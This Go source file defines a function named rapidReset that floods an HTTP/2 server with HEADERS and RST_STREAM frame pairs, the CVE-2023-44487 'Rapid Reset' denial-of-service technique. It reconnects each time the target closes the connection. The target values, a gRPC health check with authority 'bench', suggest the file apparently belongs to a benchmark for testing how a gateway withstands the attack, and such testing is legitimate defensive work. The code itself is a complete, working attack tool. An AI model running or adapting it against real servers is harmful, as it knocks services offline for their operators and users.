package main

import (
	"bytes"
	"context"
	"io"
	"net"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// rapidReset attacks addr until ctx ends: one connection at a time sends
// HEADERS and RST_STREAM pairs as fast as it can (CVE-2023-44487); when the
// gateway closes it another opens. It returns how many connections it
// used and how many streams it reset.
func rapidReset(ctx context.Context, addr string) (conns, streams *atomic.Int64) {
	conns, streams = new(atomic.Int64), new(atomic.Int64)
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	for _, kv := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "bench"},
		{":path", "/grpc.health.v1.Health/Check"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
	}
	block := hbuf.Bytes()
	go func() {
		for ctx.Err() == nil {
			c, err := net.DialTimeout("tcp", addr, time.Second)
			if err != nil {
				time.Sleep(10 * time.Millisecond)
				continue
			}
			conns.Add(1)
			stop := context.AfterFunc(ctx, func() { c.Close() })
			go func() { _, _ = io.Copy(io.Discard, c) }() // what the gateway answers is read and dropped
			fr := http2.NewFramer(c, nil)
			_, err = c.Write([]byte(http2.ClientPreface))
			if err == nil {
				err = fr.WriteSettings()
			}
			for id := uint32(1); err == nil && id < 1<<31; id += 2 {
				if err = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err == nil {
					err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
				}
				if err == nil {
					streams.Add(1)
				}
			}
			stop()
			c.Close()
		}
	}()
	return conns, streams
}
